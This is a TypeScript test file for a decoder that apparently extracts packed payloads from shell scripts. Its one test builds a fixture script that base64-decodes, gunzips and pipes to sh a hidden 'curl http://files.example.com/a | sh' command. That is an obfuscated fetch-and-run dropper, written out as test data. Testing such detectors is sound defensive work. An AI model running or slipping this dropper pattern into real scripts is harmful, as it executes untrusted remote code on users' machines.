import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { behavesAsScriptDecoder, open } from '../../../tests/script-decoder.ts';
import { fixture } from './shell-fold.fixture.ts';
import { shellFold } from './shell-fold.ts';

behavesAsScriptDecoder(shellFold, fixture);

describe('shell-fold', () => {
  it('comes with the packed bytes that a script holds', async () => {
    const packed = gzipSync('curl http://files.example.com/a | sh');
    const script = `#!/bin/sh\necho ${packed.toString('base64')} | base64 -d | gunzip | sh\n`;
    expect(await open(shellFold, script)).toMatchObject([{ name: 'gzip@0xa', bytes: new Uint8Array(packed) }]);
  });
});
